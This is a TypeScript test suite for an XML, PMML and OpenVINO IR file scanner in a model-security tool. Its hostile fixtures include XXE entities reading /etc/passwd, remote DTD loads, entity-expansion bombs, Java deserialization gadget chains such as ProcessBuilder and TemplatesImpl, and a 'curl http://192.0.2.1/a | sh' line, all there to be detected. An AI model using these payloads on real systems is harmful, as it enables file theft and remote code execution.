import { assembleJavaStream, probeOf, RecordingContext } from '@sentrascan/testkit';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
import { format } from './index.ts';

const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n';
const PMML = (body: string) =>
  `${DECLARATION}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">${body}</PMML>`;
const IR = (layers: string) =>
  `${DECLARATION}<net name="m" version="11"><layers>${layers}</layers><edges/><rt_info><note value="hello there"/></rt_info></net>`;
const CONST = (data: string) =>
  IR(`<layer id="0" name="w" type="Const" version="opset1"><data ${data}/><output/></layer>`);

function utf32(text: string): Uint8Array {
  const bytes = Buffer.alloc(text.length * 4);
  for (let index = 0; index < text.length; index++) bytes.writeUInt32BE(text.charCodeAt(index), index * 4);
  return bytes;
}

/** The ways in which one document can be written. */
function encodings(text: string): Uint8Array[] {
  const wide = Buffer.from(`\ufeff${text}`, 'utf16le');
  return [
    Buffer.from(text),
    Buffer.from(`\ufeff${text}`),
    wide,
    wide.subarray(2),
    Buffer.from(wide).swap16(),
    utf32(text),
  ];
}

const HONEST: readonly (readonly [string, string])[] = [
  ['model.pmml', PMML('<Header><Application name="JPMML"/></Header><TreeModel functionName="regression"/>')],
  ['model.pmml', PMML('<Header><Extension extender="x" name="user" value="root"/></Header>')],
  [
    'model.pmml',
    PMML(
      '<DefineFunction name="a.b"/><DerivedField><Apply function="uppercase"/><Apply function="a.b"/></DerivedField>',
    ),
  ],
  ['model.xml', IR('<layer id="0" name="x" type="Parameter" version="opset1"/>')],
  ['model.xml', CONST('element_type="f32" shape="4, 3" offset="0" size="48"')],
  ['model.xml', CONST('element_type="u4" shape="7" offset="0" size="4"')],
  ['model.xml', CONST('element_type="string" shape="2" offset="0" size="31"')],
  [
    'config.xml',
    `${DECLARATION}<!DOCTYPE plist PUBLIC "-//A//DTD P 1.0//EN" "http://example.com/p.dtd"><plist><a>1</a></plist>`,
  ],
  [
    'pom.xml',
    '<project><!-- a build --><dependency><groupId>org.apache.commons.jelly</groupId></dependency></project>',
  ],
  ['beans.xml', '<beans><bean class="org.apache.commons.dbcp.BasicDataSource"/></beans>'],
  ['beans.xml', '<beans><bean class="org.springframework.jdbc.DataSource"/></beans>'],
];

describe('honest XML', () => {
  it.each(HONEST)('%s is clean in every encoding: %s', (name, text) => {
    for (const bytes of encodings(text))
      expect(scanBytes(bytes, name)).toMatchObject({ findings: [], gaps: [] });
  });

  it('leaves web pages to the text', () => {
    expect(
      format.identify(probeOf(Buffer.from('<!DOCTYPE html><html></html>'), { name: 'page.xml' })),
    ).toBeUndefined();
    expect(
      format.identify(probeOf(Buffer.from('<div align="center">hello</div>'), { name: 'README.md' })),
    ).toBeUndefined();
  });
});

const DOCTYPE = (inner: string) => IR('').replace('<net', `<!DOCTYPE net ${inner}><net`);

const HOSTILE: readonly (readonly [string, string, string, string])[] = [
  [
    'x.xml',
    '<contact class="dynamic-proxy"><handler class="java.beans.EventHandler"/></contact>',
    'java/gadget-class',
    'critical',
  ],
  ['model.xml', DOCTYPE('[<!ENTITY a SYSTEM "file:///etc/passwd">]'), 'format/readers-disagree', 'high'],
  ['model.xml', DOCTYPE('[<!ENTITY a "x">]'), 'format/readers-disagree', 'high'],
  [
    'model.xml',
    DOCTYPE('[<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd">%a;]'),
    'format/readers-disagree',
    'high',
  ],
  ['model.xml', DOCTYPE('SYSTEM "http://192.0.2.1/x.dtd"'), 'format/readers-disagree', 'high'],
  [
    'model.pmml',
    PMML('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    'format/readers-disagree',
    'high',
  ],
  [
    'data.xml',
    `${DECLARATION}<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]><a>&b;</a>`,
    'format/readers-disagree',
    'high',
  ],
  [
    'data.xml',
    `${DECLARATION}<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>`,
    'format/exhausts-resources',
    'medium',
  ],
  ['model.pmml', PMML('<Apply function="java.lang.Runtime.exec"/>'), 'java/names-function', 'high'],
  ['model.pmml', PMML('<Apply function="com.example.Evil"/>'), 'java/names-function', 'medium'],
  [
    'model.pmml',
    PMML('<DefineFunction name="java.lang.Math"/><Apply function="java.lang.Math"/>'),
    'java/names-function',
    'medium',
  ],
  ['model.pmml', PMML('<Extension name="script" value="print(1)"/>'), 'embedded-code/runs-code', 'medium'],
  [
    'model.pmml',
    PMML('<Extension><script language="groovy">"id".execute()</script></Extension>'),
    'embedded-code/runs-code',
    'medium',
  ],
  [
    'model.pmml',
    PMML('<Extension name="x" value="curl http://192.0.2.1/a | sh"/>'),
    'metadata/holds-code',
    'medium',
  ],
  [
    'model.xml',
    CONST('element_type="f32" shape="4" offset="0" size="999"'),
    'format/unsafe-structure',
    'medium',
  ],
  [
    'model.xml',
    CONST('element_type="f32" shape="4" offset="-8" size="16"'),
    'format/unsafe-structure',
    'medium',
  ],
  [
    'model.xml',
    CONST('element_type="f32" shape="4" offset="18446744073709551615" size="16"'),
    'format/unsafe-structure',
    'medium',
  ],
  [
    'model.xml',
    IR('<layer id="0" name="x" type="Evil" version="opset1"><data path="ext/libevil.so.1"/></layer>'),
    'reference/beside-model',
    'high',
  ],
  [
    'model.xml',
    IR('<layer id="0" name="x" type="MyOp" version="extension"/>'),
    'graph/needs-custom-op',
    'low',
  ],
  [
    'x.xml',
    '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>',
    'java/gadget-class',
    'critical',
  ],
  [
    'x.xml',
    '<java.util.PriorityQueue serialization="custom"><java.lang.ProcessBuilder/></java.util.PriorityQueue>',
    'java/gadget-class',
    'critical',
  ],
  [
    'x.xml',
    '<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>',
    'java/gadget-class',
    'critical',
  ],
  [
    'x.xml',
    '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>',
    'java/gadget-class',
    'critical',
  ],
  [
    'x.xml',
    '<linked-hash-set><x class="javax.script.ScriptEngineManager"/></linked-hash-set>',
    'java/gadget-class',
    'critical',
  ],
  [
    'x.xml',
    '<object class="com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl" name="__root__"/>',
    'java/gadget-class',
    'critical',
  ],
];

describe('hostile XML', () => {
  it.each(HOSTILE)('%s is judged in every encoding: %s', (name, text, ruleId, severity) => {
    for (const bytes of encodings(text)) {
      const { findings, gaps } = scanBytes(bytes, name);
      expect(findings[0]).toMatchObject({ ruleId, severity });
      expect(gaps).toEqual([]);
    }
  });

  it('opens Java streams in base64', () => {
    const stream = Buffer.from(assembleJavaStream('object bsh.XThis')).toString('base64');
    for (const text of [`<a>\n${stream}\n</a>`, `<a v="${stream}"/>`, `<a><![CDATA[${stream}]]></a>`])
      expect(scanBytes(Buffer.from(DECLARATION + text), 'a.xml').findings[0]?.ruleId).toBe(
        'java/gadget-class',
      );
  });
});

describe('damaged XML', () => {
  it.each([
    ['an end that is missing', '<?xml version="1.0"?><a><b>'],
    ['a tag that does not match', '<?xml version="1.0"?><a></b>'],
    ['what follows the end', '<?xml version="1.0"?><a/>more'],
    ['deep nesting', `<?xml version="1.0"?>${'<a>'.repeat(5000)}`],
    ['an unknown encoding', '<?xml version="1.0" encoding="UTF-7"?><a/>'],
  ])('makes a gap of %s', (_, text) =>
    expect(scanBytes(Buffer.from(text), 'a.xml').gaps.length).toBeGreaterThan(0),
  );

  it('goes on behind what is malformed', () => {
    const text = PMML('<a b=c><Apply function="java.lang.Runtime"/></a>');
    expect(scanBytes(Buffer.from(text), 'a.pmml').findings[0]?.ruleId).toBe('java/names-function');
  });

  it('ends soon on a document type without end', () => {
    const text = `<?xml version="1.0"?><!DOCTYPE a [${"<!ENTITY a '".repeat(100_000)}`;
    expect(scanBytes(Buffer.from(text), 'a.xml').gaps.length).toBeGreaterThan(0);
  });

  it('never throws', () => {
    const seeds = [...HONEST, ...HOSTILE].map(([, text]) => Buffer.from(text));
    fc.assert(
      fc.property(fc.constantFrom(...seeds), fc.nat(), fc.nat(255), fc.nat(), (seed, at, byte, other) => {
        const changed = Uint8Array.from(seed);
        changed[at % seed.length] = byte;
        changed[other % seed.length] = 0x3c;
        format.walk(new RecordingContext(changed, { name: 'a.xml' }));
      }),
      { numRuns: 300 },
    );
  });
});
